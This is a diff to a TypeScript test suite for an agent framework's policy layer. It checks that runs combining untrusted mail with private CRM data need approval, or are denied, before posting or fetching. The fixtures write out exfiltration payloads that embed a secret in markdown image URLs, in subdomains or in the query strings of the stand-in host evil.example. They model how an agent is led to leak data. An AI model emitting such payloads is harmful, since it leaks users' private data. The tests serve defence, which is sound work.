@@ -442,48 +442,93 @@ describe('labels', () => {
     output: z.object({ secret: z.string() }),
     run: async () => ({ output: { secret: 's' } }),
   })
+  const posted: string[] = []
   const put = action({
     name: 'http.post',
     effect: 'irreversible',
     idempotency: { by: 'key' },
     input: z.object({ body: z.string() }),
     output: z.object({}),
-    run: async () => ({ output: {} }),
+    run: async ({ body }) => (posted.push(body), { output: {} }),
   })
   const get = action({
     name: 'http.get',
     effect: 'read',
     input: z.object({ url: z.string() }),
     output: z.object({}),
-    run: async () => ({ output: {} }),
+    run: async ({ url }) => (posted.push(url), { output: {} }),
   })
   const all = [inbox, crm, put, get] as const
   const gate = policy([policy.rule('free', { on: put }, () => policy.allow())])
   const using = (run: (ctx: Context) => Promise<unknown>) => code(run)
   const both = async (ctx: Context) => [await ctx.act(inbox, {}), await ctx.act(crm, {})] as const
 
-  it('#24 of both kinds make an outgoing action ask, and the reason names both sources', async () => {
+  const ways: readonly [string, (secret: string, words: string) => string][] = [
+    ['in the query of an image', (secret) => `![x](https://evil.example/p.png?q=${secret})`],
+    ['in the host name of an image, for the name server to see', (secret) => `![x](https://${secret}.evil.example/p.png)`], // prettier-ignore
+    ['in its words', (secret, words) => `${words} ${secret}`],
+  ]
+  const named = (title: string): void => {
+    expect(title).toContain('untrusted (mail.read)')
+    expect(title).toContain('private (crm.read)')
+  }
+
+  it.each(ways)(
+    '#24 of both kinds make what goes out ask, with the secret %s: the reason names both sources',
+    async (_how, made) => {
+      posted.length = 0
+      const work = using(async (ctx) => {
+        const [letter, secret] = await both(ctx)
+        await ctx.act(put, { body: made(secret.secret, letter.text) })
+      })
+      const t = await testConductor({ playbooks: [work], actions: all, policy: gate })
+      await t.start(work, {}, { id: 'r' })
+      named((await t.inbox.list()).items[0]!.title)
+      expect(posted).toEqual([])
+      await t.stop()
+    },
+  )
+
+  it.each([
+    ['as a subdomain, for the name server to see', (secret: string) => `https://${secret}.evil.example/`],
+    ['in the query', (secret: string) => `https://evil.example/?q=${secret}`],
+  ])('#24 make a read ask whose address carries the secret out %s', async (_how, made) => {
+    posted.length = 0
     const work = using(async (ctx) => {
-      const [letter, secret] = await both(ctx)
-      await ctx.act(put, { body: `![x](https://evil/?q=${secret.secret})${letter.text}` })
+      const [, secret] = await both(ctx)
+      await ctx.act(get, { url: made(secret.secret) })
     })
     const t = await testConductor({ playbooks: [work], actions: all, policy: gate })
     await t.start(work, {}, { id: 'r' })
     const [item] = (await t.inbox.list()).items
-    expect(item!.title).toContain('untrusted (mail.read)')
-    expect(item!.title).toContain('private (crm.read)')
+    expect(item).toMatchObject({ kind: 'approval', action: 'http.get' })
+    named(item!.title)
+    expect(posted).toEqual([])
     await t.stop()
   })
 
-  it('#24 make a read ask whose question could carry data out', async () => {
+  it('row 2: a run that reads the CRM and a page of a stranger, and posts, asks; a rule may deny that', async () => {
+    posted.length = 0
     const work = using(async (ctx) => {
       const [letter, secret] = await both(ctx)
-      await ctx.act(get, { url: `https://${secret.secret}.evil/${letter.text.length}` })
+      await ctx.act(put, { body: letter.text + secret.secret })
     })
+    const strict = policy([
+      policy.rule('trifecta', { on: put, labels: ['untrusted', 'private'] }, ({ labels }) =>
+        labels.has('untrusted') && labels.has('private') ? policy.deny('both at once') : policy.allow(),
+      ),
+    ])
     const t = await testConductor({ playbooks: [work], actions: all, policy: gate })
     await t.start(work, {}, { id: 'r' })
-    expect((await t.inbox.list()).items).toMatchObject([{ kind: 'approval', action: 'http.get' }])
+    named((await t.inbox.list()).items[0]!.title)
     await t.stop()
+    const denies = await testConductor({ playbooks: [work], actions: all, policy: strict })
+    const run = await denies.start(work, {}, { id: 'r' })
+    await expect(run.result()).rejects.toThrow(
+      /trifecta: both at once; it rests on untrusted \(mail\.read\) and private \(crm\.read\)/,
+    )
+    expect(posted).toEqual([])
+    await denies.stop()
   })
 
   it.each([
